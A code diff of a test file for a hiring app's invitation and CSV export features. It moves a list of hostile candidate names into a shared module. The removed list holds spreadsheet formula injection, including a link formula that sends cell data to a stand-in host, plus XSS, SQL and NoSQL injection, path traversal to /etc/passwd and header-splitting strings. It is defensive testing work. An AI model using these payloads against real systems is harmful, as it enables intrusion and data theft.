@@ -1,27 +1,10 @@
 import { createdShareLinkSchema, invitedSchema, workspaceSchema } from '@hone/contracts/hiring';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { actOn, createWorkspace, openInvitation, publishAssessment } from '../../testing/hiring-people.js';
+import { HOSTILE_NAMES, REFUSED_NAMES } from '../../testing/hostile-names.js';
 import { createMemoryDependencies, type MemoryDependencies } from '../../testing/memory-dependencies.js';
 import { TestApi } from '../../testing/test-api.js';
 import type { TestClient } from '../../testing/test-client.js';
-
-/** What people call themselves to reach a spreadsheet, a page, a mail or a terminal. */
-const CORPUS = [
-  '=HYPERLINK("http://x.example/"&A1,"open")',
-  '+1+cmd|" /C calc"!A0',
-  '-2+3',
-  '@SUM(1+1)*cmd',
-  '＝1+1',
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  '{{constructor.constructor("alert(1)")()}}',
-  '$t(report.title) {{name}}',
-  'Robert", "admin@example.org',
-  "Robert'); DROP TABLE students;--",
-  '{"$gt": ""}',
-  '../../etc/passwd',
-  'ﷺ'.repeat(20),
-];
 
 let test: TestApi<MemoryDependencies>;
 let team: TestClient;
@@ -35,7 +18,7 @@ beforeAll(async () => {
   workspace = await createWorkspace(team, 'ada');
   assessment = await publishAssessment(team, workspace);
   const path = `/api/v1/workspaces/${workspace}/assessments/${assessment}/invitations`;
-  for (const name of CORPUS) {
+  for (const name of HOSTILE_NAMES) {
     const { url } = await team.get(invitedSchema, path, { json: { name } }, 201);
     invited.set(name, url.split('/').at(-1) ?? '');
   }
@@ -52,17 +35,17 @@ it('keeps every name in one cell that no spreadsheet runs', async () => {
   const { body, headers } = await team.call(`/api/v1/workspaces/${workspace}/sittings?format=csv`);
   expect(headers.get('content-disposition')).toBe('attachment; filename=candidates.csv');
   const [head = '', ...lines] = String(body).replace('\uFEFF', '').trimEnd().split('\r\n');
-  expect(lines).toHaveLength(CORPUS.length);
+  expect(lines).toHaveLength(HOSTILE_NAMES.length);
   const names = lines.map((line) => {
     const cells = cellsOf(line);
     expect(cells).toHaveLength(cellsOf(head).length);
     for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
-    return (cells[0] ?? '').replace(/^'(?=\s*[=+\-@＝])/, '');
+    return (cells[0] ?? '').replace(/^'(?=\s*[=+\-@＝＋－＠])/, '');
   });
-  expect(names.sort()).toEqual([...CORPUS].sort());
+  expect(names.sort()).toEqual([...HOSTILE_NAMES].sort());
 });
 
-it.each(CORPUS)('says %j as data only, also to whoever has a link', async (name) => {
+it.each(HOSTILE_NAMES)('says %j as data only, also to whoever has a link', async (name) => {
   await team.get(workspaceSchema, `/api/v1/workspaces/${workspace}`, {
     method: 'PATCH',
     json: { blind: false },
@@ -82,6 +65,6 @@ it.each(CORPUS)('says %j as data only, also to whoever has a link', async (name)
 
 it('refuses names that would break a line of a header or a file', async () => {
   const path = `/api/v1/workspaces/${workspace}/assessments/${assessment}/invitations`;
-  for (const name of ['Ada\r\nBcc: x@example.org', 'Ada\u0000', 'Ada\u202Egnp.exe'])
-    expect((await team.call(path, { json: { name } })).status).toBe(422);
+  for (const name of REFUSED_NAMES)
+    expect((await team.call(path, { json: { name } })).body).toMatchObject({ errors: [{ path: 'name' }] });
 });
